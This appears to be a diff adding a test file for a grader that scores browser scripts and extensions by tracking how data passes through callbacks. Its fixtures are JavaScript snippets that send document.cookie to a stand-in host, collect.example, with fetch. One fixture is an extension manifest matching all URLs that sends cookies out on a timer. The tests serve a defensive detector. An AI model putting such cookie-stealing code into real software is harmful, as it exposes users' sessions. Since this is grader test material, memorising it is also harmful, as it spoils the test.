@@ -1,0 +1,50 @@
+import { describe, expect, it } from 'vitest';
+import { graded } from '../testing/graded.ts';
+
+/* `function each(list, visit) { … visit(one) … }`: what one caller's list holds is told to that caller's function. */
+
+describe.each([
+  ['calls it', 'function each(all, visit) { for (const key in all) visit(all[key], key); }'],
+  ['calls it by `call`', 'function each(all, visit) { for (const key in all) visit.call(null, all[key], key, all); }'],
+  [
+    'hands it on',
+    'function one(value, then) { then(value); } function each(all, visit) { for (const key in all) one(all[key], visit); }',
+  ],
+  ['hands it to a method of lists', 'const each = (all, visit) => Object.values(all).forEach(visit);'],
+  [
+    'is a method',
+    'class Tools { static each(all, visit) { for (const key in all) visit(all[key]); } } const { each } = Tools;',
+  ],
+])('a function is handed over to who %s', (_, each) => {
+  const send = "(one) => fetch('https://collect.example/?' + one)";
+  const program = (shown: string, sent: string): string =>
+    `${each} each({ a: ${shown} }, (one) => console.log(one)); each({ b: ${sent} }, ${send});`;
+
+  it('and told what came with it', async () => {
+    expect(await graded({ content: program('1', 'document.cookie') })).toBe('F');
+  });
+
+  it('and not what came with another', async () => {
+    expect(await graded({ content: program('document.cookie', '1') })).toMatch(/^A/);
+  });
+});
+
+it('more callers than are told apart are still followed', async () => {
+  const each = 'function each(all, visit) { for (const key in all) visit(all[key]); }';
+  const many = Array.from({ length: 130 }, (_, n) => `each({ a: document.cookie }, (one) => show${n}(one));`).join(
+    '\n',
+  );
+  const last = "each({ a: document.cookie }, (one) => fetch('https://collect.example/?' + one));";
+  expect(await graded({ content: `${each}\n${many}\n${last}` })).toBe('F');
+});
+
+it('numbers of variables in another script are none of the function’s', async () => {
+  const files = {
+    'one.js':
+      'function each(all, visit) { for (const key in all) visit(all[key]); } each({ a: document.cookie }, keep);',
+    'two.js':
+      "function keep(one) { window.kept = one; } setInterval(() => fetch('https://collect.example/?' + kept), 9000);",
+  };
+  const content_scripts = [{ matches: ['<all_urls>'], js: ['one.js', 'two.js'] }];
+  expect(await graded({ files, manifest: { content_scripts } })).toBe('F');
+});
